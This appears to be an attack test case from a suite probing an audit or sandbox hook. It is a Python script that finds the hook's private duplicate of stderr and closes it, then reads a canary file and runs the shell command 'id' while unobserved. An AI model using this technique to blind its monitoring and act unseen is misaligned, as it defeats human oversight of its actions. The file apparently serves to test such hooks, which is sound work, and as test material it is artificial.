# attack: close_audit_channel
# class: 2
# category: hook_bypass
# kind: audit_blinded
# describe: find the hook's private duplicate of stderr (same pipe as fd 2) and close it, then misbehave unobserved
import json
import os

err = os.fstat(2)
for fd in range(3, 256):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if (st.st_dev, st.st_ino) == (err.st_dev, err.st_ino):
        os.close(fd)
T = json.load(open("target.json"))
try:
    open(T["canary_path"]).read()
except OSError:
    pass
os.system("id")
